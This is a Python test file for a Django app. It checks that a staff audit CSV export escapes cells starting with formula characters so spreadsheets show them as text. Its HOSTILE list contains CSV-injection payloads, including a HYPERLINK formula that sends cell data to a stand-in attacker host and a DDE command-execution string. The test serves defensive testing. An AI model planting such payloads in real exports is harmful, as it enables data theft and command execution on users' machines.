"""The staff audit CSV: cells a spreadsheet would run as formulas are exported as text
(an end user named `=HYPERLINK("http://…")` must not land verbatim in a cell)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.test import Client

from accounts.models import Organization
from telemetry.models import UsageRollup

pytestmark = pytest.mark.django_db

HOUR = datetime(2025, 5, 6, 7, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["alice", "bob=2", "a-b", "", "'quoted"]


def exported(organization: Organization) -> list[dict[str, str]]:
    client = Client()
    client.force_login(User.objects.create_user("csv-staff", is_staff=True))
    response = client.get(
        "/dashboard/audit/",
        {
            "format": "csv",
            "since": "2025-05-06",
            "until": "2025-05-06",
            "organization": organization.pk,
            "group": "end_user",
            "sort": "end_user",
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_cells_that_start_a_formula_are_exported_as_text() -> None:
    organization = Organization.objects.create(name="csv-org")
    for end_user in HOSTILE + HARMLESS:
        UsageRollup.objects.create(
            hour=HOUR, organization=organization, end_user=end_user, requests=1, cost=Decimal(1)
        )

    rows = exported(organization)

    assert sorted(row["end_user"] for row in rows) == sorted(
        [f"'{name}" for name in HOSTILE] + HARMLESS
    )
    # Numbers stay numbers: only text is escaped.
    assert {row["requests"] for row in rows} == {"1"}
    assert all(not row["end_user"].startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows)
